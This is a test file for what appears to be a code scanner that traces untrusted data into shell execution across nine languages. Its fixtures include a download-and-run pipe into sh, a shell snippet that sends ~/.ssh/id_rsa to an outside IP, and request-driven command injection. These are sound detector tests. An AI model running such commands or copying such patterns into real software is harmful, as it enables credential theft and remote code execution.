"""The Go/Java/Kotlin/C#/C/C++/PHP/Ruby/shell adapters: canonical callees, labels that follow the data, traces."""
from __future__ import annotations

import importlib
import pytest

from codescan.analyze import languages
from codescan.analyze.budget import Budget
from codescan.analyze.document import Analyzer
from codescan.analyze.treesitter import Deadline
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def calls(language: str, code: str):
    adapter = importlib.import_module(f"codescan.analyze.semantics.lang.{language}")
    source = code.encode()
    return adapter.facts(source, languages.parser(language).parse(source), None, None).calls


def one(language: str, code: str, callee: str):
    found = [c for c in calls(language, code) if c.callee == callee]
    assert found, f"no {callee} in {[c.callee for c in calls(language, code)]}"
    return found[0]


def findings(path: str, code: str):
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    return analyzer.analyze(Document(path=path, content=code.encode())).findings


@pytest.mark.parametrize("language, code, callee", [
    ("go", 'package m\nimport x "os/exec"\nfunc f() { x.Command("id") }', "os/exec.Command"),
    ("java", "class A { void f() { Runtime.getRuntime().exec(\"id\"); } }", "java.lang.Runtime.exec"),
    ("kotlin", 'fun f() { ProcessBuilder("id").start() }', "java.lang.ProcessBuilder"),
    ("csharp", "using System.Diagnostics; class A { void F() { Process.Start(\"id\"); } }",
     "System.Diagnostics.Process.Start"),
    ("c", 'int main() { system("id"); }', "libc.system"),
    ("cpp", 'int main() { std::system("id"); }', "libc.system"),
    ("php", '<?php $o = `id`;', "php.shell_exec"),
    ("ruby", "x = %x(id)", "Kernel.backtick"),
    ("shell", "sudo -u root bash -c id", "shell.bash"),
])
def test_canonical_callees(language, code, callee):
    one(language, code, callee)


def test_go_value_through_helper_field_and_pieces():
    code = '''package m
import ("io"; "net/http"; "os/exec")
type job struct{ cmd string }
func get(u string) string { r, _ := http.Get(u); b, _ := io.ReadAll(r.Body); return string(b) }
func run(c string) { exec.Command("sh", "-c", c).Run() }
func main() {
    j := job{}
    j.cmd = "echo " + get("http://h/x")
    run(j.cmd)
}'''
    call = one("go", code, "os/exec.Command")
    assert "network" in call.args[2].labels
    assert any("passed to run()" in s.note for s in call.args[2].trace)


def test_java_reflection_and_array_reach_runtime_exec():
    code = '''class A { void f(javax.servlet.http.HttpServletRequest req) throws Exception {
        String c = req.getParameter("c");
        String[] argv = {"sh", "-c", c};
        Class.forName("java.lang." + "Runtime").getMethod("exec", String[].class).invoke(Runtime.getRuntime(), argv);
    } }'''
    call = one("java", code, "java.lang.Runtime.exec")
    assert call.via == "dynamic" and "request" in call.args[0].labels


def test_constant_command_carries_no_label():
    call = one("go", 'package m\nimport "os/exec"\nfunc f() { c := "ls " + "-la"; exec.Command("sh", "-c", c) }',
               "os/exec.Command")
    assert call.args[2].const == "ls -la" and not call.args[2].labels


def test_shell_pipe_and_download_then_run():
    facts = calls("shell", 'u=http://h/x\ncurl -s "$u" | base64 -d | sh\ncurl -o /tmp/a "$u"\nbash /tmp/a\n')
    sh = next(c for c in facts if c.callee == "shell.sh")
    assert {"network", "decoded"} <= dict(sh.kwargs)["stdin"].labels
    bash = next(c for c in facts if c.callee == "shell.bash")
    assert "network" in bash.args[0].labels


def test_severity_follows_the_data():
    request = 'package m\nimport ("net/http"; "os/exec")\nfunc h(w http.ResponseWriter, r *http.Request) {\n' \
              '    c := r.FormValue("c")\n    exec.Command("sh", "-c", c).Run()\n}\n'
    constant = 'package m\nimport "os/exec"\nfunc h() {\n    c := "uptime"\n    exec.Command("sh", "-c", c).Run()\n}\n'
    hit = [f for f in findings("a.go", request) if f.rule_id == "command-from-request-input"]
    assert hit and hit[0].severity in ("high", "critical") and hit[0].line == 5
    assert not [f for f in findings("b.go", constant) if f.rule_id == "command-from-request-input"]


def test_finding_carries_its_trace():
    code = '<?php\n$p = file_get_contents("http://h/p");\n$q = $p;\neval($q);\n'
    hit = [f for f in findings("a.php", code) if f.rule_id == "exec-of-network-response"]
    assert hit and [s.line for s in hit[0].trace][:1] == [2] and hit[0].trace[-1].line == 4


def test_deadline_stops_the_layer():
    from codescan.analyze.semantics.lang.clike_go import GoFlow
    source = ("package m\nfunc f() {\n" + "    x := 1\n" * 3000 + "}\n").encode()
    flow = GoFlow(source, languages.parser("go").parse(source), "go", Budget(0.0), None)
    with pytest.raises(Deadline):
        flow.facts()


@pytest.mark.parametrize("language", ["go", "java", "kotlin", "csharp", "c", "cpp", "php", "ruby", "shell"])
def test_broken_source_gives_facts_not_errors(language):
    calls(language, "(((( ]] system( $x = `` ${ \" ' func class { exec(")


@pytest.mark.parametrize("path, code, rule", [
    ("a.rb", 'cmd = params["c"]\nsystem("ls " + cmd)\n', "command-from-request-input"),
    ("a.php", '<?php\n$c = $_GET["c"];\nsystem("ls " . $c);\n', "command-from-request-input"),
    ("a.go", 'package m\nimport "os/exec"\nfunc h(q map[string]string) {\n    exec.Command("sh", "-c", req.FormValue("c"))\n}\n',
     "command-from-request-input"),
])
def test_request_sources_of_other_languages_open_the_gate(path, code, rule):
    assert [f for f in findings(path, code) if f.rule_id == rule]


def test_comparison_gate_is_a_superset_of_the_secret_names():
    """The layer is skipped for files without a secret-like name next to an equality test; every name the
    comparison facts accept must pass that gate (else magic-value findings would be lost)."""
    from codescan.analyze.semantics.lang.treeflow import SECRET_NAMES, compare_possible
    names = ["password", "user_password", "$pwd", "this.pin", "pincode", "masterKey", "adminToken",
             "getPassword()", "admin_pass2", "ADMIN_KEY", "backdoor", "cfg.apiKey", "secretToken"]
    for name in names:
        assert SECRET_NAMES.search(name), name
        for test in (f'if ({name} == "x9!Qv") {{}}', f'if {name}.equals("x9!Qv")', f'strcmp({name}, "x9")',
                     f'if (ConstantTimeCompare({name}, k))'):
            assert compare_possible(test.encode()), test
    assert not compare_possible(b'if (count == 3) { total = 1; }')  # no secret-like name
    assert not compare_possible(b'String password = read();')  # no equality test


@pytest.mark.parametrize("path, code, rule", [
    # Go: a method of this file called on its receiver (a.fetch()) returns the downloaded body
    ("a.go", 'package m\nimport ("io"; "net/http"; "os/exec")\ntype A struct{ u string }\n'
             'func (a *A) fetch() string {\n    r, _ := http.Get(a.u)\n    b, _ := io.ReadAll(r.Body)\n'
             '    return string(b)\n}\nfunc (a *A) Run() {\n    s := a.fetch()\n'
             '    exec.Command("sh", "-c", s).Run()\n}\n', "exec-of-network-response"),
    # Ruby: a bare name that is a method of this file is a call of it (`script = body`)
    ("a.rb", "require 'net/http'\nclass U\n  def body\n    Net::HTTP.get(URI('http://h/x'))\n  end\n"
             "  def run\n    script = body\n    Kernel.send(@m, 'sh', '-c', script)\n  end\n"
             "  def initialize\n    @m = 'sys' + 'tem'\n  end\nend\n", "exec-of-network-response"),
    # shell: the path a variable was bound to names a key even when $HOME is not known
    ("a.sh", 'k=$HOME/.ssh/id_rsa\nd=$(cat "$k" | base64 -w0)\ncurl -s -d "key=$d" http://203.0.113.5/u\n',
     "credential-file-sent-over-network"),
])
def test_flows_through_methods_of_the_file_and_bound_paths(path, code, rule):
    assert [f for f in findings(path, code) if f.rule_id == rule and f.severity in ("high", "critical")]


@pytest.mark.parametrize("path, code, rule", [
    ("a.rb", "class U\n  def body\n    'ls -l'\n  end\n  def run\n    script = body\n    system(script)\n  end\nend\n",
     "exec-of-network-response"),
    ("a.sh", 'k=$HOME/.ssh/known_hosts\ncp "$k" /mnt/backup/\n', "credential-file-sent-over-network"),
])
def test_constant_method_results_and_local_copies_stay_quiet(path, code, rule):
    assert not [f for f in findings(path, code) if f.rule_id == rule]
